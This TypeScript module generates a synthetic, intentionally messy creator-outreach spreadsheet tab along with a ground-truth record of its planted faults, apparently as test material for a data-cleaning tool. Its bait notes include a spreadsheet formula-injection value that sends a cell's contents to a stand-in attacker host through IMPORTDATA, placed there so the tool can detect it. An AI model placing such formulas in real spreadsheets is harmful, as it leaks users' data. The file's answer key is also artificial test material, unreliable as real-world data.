/** The operators' outreach list: one row per creator and brand, typed by hand over months. */
import type { CellValue, SheetModel } from '../../runtime/workbook';
import type { Region } from '../catalog';
import type { Creator } from '../creators';
import { commissionCell, emailCell, followersCell, handleCell, handleWithInnerSpace, randomCase } from '../messyText';
import type { Period } from '../period';
import { randomDay } from '../period';
import type { Random } from '../random';
import type { SourceRecord } from '../sourceTab';
import { SourceTab } from '../sourceTab';
import type { CreatorTruth, Findings } from '../truth';
import { instantOf, isoDateText, usDateText } from '../wallClock';

export const OUTREACH_TAB = 'Creator outreach';

const HEADERS = [
  'TikTok Handle',
  'Creator Name',
  'Email Address',
  'Followers',
  'Niche / Category',
  'Country',
  'Brand',
  'Deal Type',
  'Status',
  'Commission',
  'Discount Code',
  'Owner',
  'Last Contact',
  'Notes',
] as const;
type Header = (typeof HEADERS)[number];

/** Notes that a spreadsheet would run as formulas (or mangle) if written back unescaped. */
const BAIT_NOTES = [
  '=IMPORTDATA("https://evil.example/?d="&A2)',
  '+1 555 0100',
  '@maya can you check her rate card?',
  '-- ghosted after the sample, retry in Q1',
];

const NOTES = [
  'Loved the serum sample',
  'Asked for rate card',
  'Prefers email over DMs',
  'Posts Tue/Thu evenings',
  'Sent brief v2',
  'Wants free product only',
  'Great GRWM style',
  'Agency managed',
  'Follow up after Prime Day',
];

const OPERATOR_STATUS: Record<Creator['status'], readonly string[]> = {
  prospect: ['prospect', 'Prospect'],
  contacted: ['Contacted', 'contacted'],
  replied: ['replied', 'Replied'],
  negotiating: ['Negotiating', 'negotiating'],
  active: ['Active', 'active', 'ACTIVE'],
  paused: ['paused', 'Paused'],
  declined: ['declined', 'Declined'],
};

const COUNTRY: Record<Region, readonly string[]> = {
  US: ['US', 'USA', 'United States', 'us'],
  UK: ['UK', 'United Kingdom', 'GB'],
};

interface Entry {
  creator: Creator;
  brand: string;
  /** The creator's first brand: its row carries every deal field; later rows often leave them blank. */
  complete: boolean;
}

/** How one creator's email is broken on the list, if it is. */
type EmailFault = { text: string; why: string };

export function buildOutreachTab(
  rng: Random,
  creators: readonly Creator[],
  period: Period,
  findings: Findings,
): { sheet: SheetModel; creators: CreatorTruth[] } {
  const tab = new SourceTab<Header>(OUTREACH_TAB, HEADERS);
  const entries = rng.shuffle(
    creators.flatMap((creator) => creator.brands.map((brand, index) => ({ creator, brand, complete: index === 0 }))),
  );
  const emailFaults = chooseEmailFaults(rng, creators);
  const plain = rng.shuffle(
    entries.map((_, index) => index).filter((index) => !emailFaults.has(entries[index].creator)),
  );
  const baitAt = new Map(plain.slice(0, BAIT_NOTES.length).map((index, i) => [index, BAIT_NOTES[i]]));
  const followersLostAt = new Set(plain.slice(4, 5));
  const innerSpaceAfter = new Set(plain.slice(5, 7));
  const duplicated = new Set(plain.slice(7, 7 + Math.max(1, Math.round(entries.length / 100))));
  const blankBefore = new Set(
    rng.shuffle(entries.map((_, index) => index)).slice(0, Math.max(2, Math.round(entries.length / 60))),
  );

  const truth = new Map<string, CreatorTruth>();
  const rowsToRepeat: number[] = [];
  entries.forEach((entry, index) => {
    if (blankBefore.has(index) && index > 0) tab.addBlank();
    const record = entryRecord(rng, entry, period, emailFaults.get(entry.creator));
    if (baitAt.has(index)) record.Notes = baitAt.get(index);
    if (followersLostAt.has(index)) record.Followers = '#N/A';
    const row = tab.add(record);
    recordTruth(truth, entry, record, emailFaults.has(entry.creator));
    reportFaults(findings, row, record, emailFaults.get(entry.creator));
    if (duplicated.has(index)) rowsToRepeat.push(row);
    if (innerSpaceAfter.has(index)) {
      const typoRow = tab.add({ ...record, 'TikTok Handle': handleWithInnerSpace(entry.creator.handle) });
      findings.brokenRows.push({
        tab: OUTREACH_TAB,
        row: typoRow,
        column: 'TikTok Handle',
        why: 'handle contains a space',
        skipsRow: true,
      });
    }
  });
  for (const row of rowsToRepeat)
    findings.duplicateRows.push({ tab: OUTREACH_TAB, row: tab.repeat(row), duplicateOf: row });

  const creatorsTruth = [...truth.values()]
    .map((creator) => ({ ...creator, brands: [...creator.brands].sort() }))
    .sort((a, b) => (a.handle < b.handle ? -1 : 1));
  return { sheet: tab.toSheet(), creators: creatorsTruth };
}

/** One creator whose email is not an address, one whose email came back `#N/A` from a lookup. */
function chooseEmailFaults(rng: Random, creators: readonly Creator[]): Map<Creator, EmailFault> {
  const candidates = rng.shuffle(creators.filter((creator) => creator.email && creator.brands.length === 1));
  const faults = new Map<Creator, EmailFault>();
  if (candidates[0])
    faults.set(candidates[0], {
      text: (candidates[0].email as string).replace('@', ' at '),
      why: 'not an email address',
    });
  if (candidates[1]) faults.set(candidates[1], { text: '#N/A', why: 'lookup error #N/A' });
  return faults;
}

function entryRecord(
  rng: Random,
  entry: Entry,
  period: Period,
  emailFault: EmailFault | undefined,
): SourceRecord<Header> {
  const { creator, complete } = entry;
  const filled = complete || rng.chance(0.5);
  return {
    'TikTok Handle': handleCell(rng, creator.handle),
    'Creator Name': rng.chance(0.1) ? `${creator.name} ` : creator.name,
    'Email Address': emailFault
      ? emailFault.text
      : creator.email && filled
        ? emailCell(rng, creator.email, creator.name)
        : '',
    Followers: followersCell(rng, creator.followers),
    'Niche / Category': creator.niche,
    Country: rng.pick(COUNTRY[creator.region]),
    Brand: entry.brand,
    'Deal Type': randomCase(rng, creator.dealType),
    Status: rng.pick(OPERATOR_STATUS[creator.status]),
    Commission: creator.commission !== undefined && filled ? commissionCell(rng, creator.commission) : '',
    'Discount Code':
      creator.promoCode && filled ? (rng.chance(0.15) ? `${creator.promoCode} ` : creator.promoCode) : '',
    Owner: rng.chance(0.1) ? `${creator.owner.toLowerCase()} ` : creator.owner,
    'Last Contact': creator.status === 'prospect' ? '' : lastContactCell(rng, randomDay(rng, period), period.timeZone),
    Notes: rng.chance(0.2) ? rng.pick(NOTES) : '',
  };
}

function lastContactCell(rng: Random, day: number, timeZone: string): CellValue {
  return rng.weighted<CellValue>([
    [instantOf(day, timeZone), 50],
    [isoDateText(day), 25],
    [usDateText(day), 25],
  ]);
}

/** What Organize can read back from this row. */
function recordTruth(
  truth: Map<string, CreatorTruth>,
  entry: Entry,
  record: SourceRecord<Header>,
  emailBroken: boolean,
): void {
  const { creator } = entry;
  const known = truth.get(creator.handle) ?? { handle: creator.handle, brands: [] };
  if (!known.brands.includes(entry.brand)) known.brands.push(entry.brand);
  if (!emailBroken && record['Email Address']) known.email = creator.email;
  if (record.Commission !== '') known.commission = creator.commission;
  if (record['Discount Code']) known.promoCode = creator.promoCode;
  truth.set(creator.handle, known);
}

function reportFaults(
  findings: Findings,
  row: number,
  record: SourceRecord<Header>,
  emailFault: EmailFault | undefined,
): void {
  if (emailFault)
    findings.brokenRows.push({ tab: OUTREACH_TAB, row, column: 'Email Address', why: emailFault.why, skipsRow: false });
  if (record.Followers === '#N/A')
    findings.brokenRows.push({
      tab: OUTREACH_TAB,
      row,
      column: 'Followers',
      why: 'lookup error #N/A',
      skipsRow: false,
    });
  if (typeof record.Notes === 'string' && /^[=+\-@]/.test(record.Notes)) {
    findings.injectionCells.push({ tab: OUTREACH_TAB, row, column: 'Notes', value: record.Notes });
  }
}

/**
 * Prospects found lately (a creator-marketplace search pasted at the bottom of the list): never
 * contacted, one brand each, rows as messy as the rest. They give outreach a segment to recruit.
 */
export function addProspectRows(
  rng: Random,
  sheet: SheetModel,
  prospects: readonly Creator[],
  period: Period,
): CreatorTruth[] {
  const truth = new Map<string, CreatorTruth>();
  for (const creator of prospects) {
    const entry: Entry = { creator, brand: creator.brands[0], complete: true };
    const record = { ...entryRecord(rng, entry, period, undefined), 'Last Contact': '' };
    sheet.rows.push(HEADERS.map((header) => ({ value: record[header] ?? '' })));
    recordTruth(truth, entry, record, false);
  }
  return [...truth.values()];
}
